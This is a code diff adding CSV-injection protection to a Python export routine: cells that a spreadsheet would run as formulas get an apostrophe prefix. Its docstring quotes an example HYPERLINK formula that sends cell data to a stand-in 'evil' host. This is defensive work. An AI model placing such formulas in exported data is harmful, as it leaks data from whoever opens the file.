@@ -120,6 +120,9 @@ class Item:
         }
 
     def csv_row(self) -> list[str]:
+        return [spreadsheet_text(cell) for cell in self._csv_cells()]
+
+    def _csv_cells(self) -> list[str]:
         return [
             self.type,
             self.id,
@@ -468,6 +471,22 @@ def _check_field(dataset_id: int, name: str) -> None:
     if name in {known for _, known in column_lineage.dataset_fields(dataset_id, MAX_ITEMS)}:
         return
     raise UnknownField(name)
+
+
+# What a spreadsheet reads as the start of a formula (OWASP's CSV injection list).
+_FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def spreadsheet_text(cell: str) -> str:
+    """``cell`` with an apostrophe before it when a spreadsheet would run it as a formula.
+
+    Why (ADR 0155): names, owners and tags are a producer's text, and a steward opens the
+    download in a spreadsheet; ``=HYPERLINK("https://evil/?"&A1, "orders")`` as a dataset
+    name would be a working link (or worse) there. The apostrophe is the spreadsheets' own
+    "this is text" mark: it is not shown, the cell reads as the name. A program reading the
+    CSV sees it, so the JSON answer stays the text as derived.
+    """
+    return "'" + cell if cell.startswith(_FORMULA_STARTS) else cell
 
 
 class _Echo:
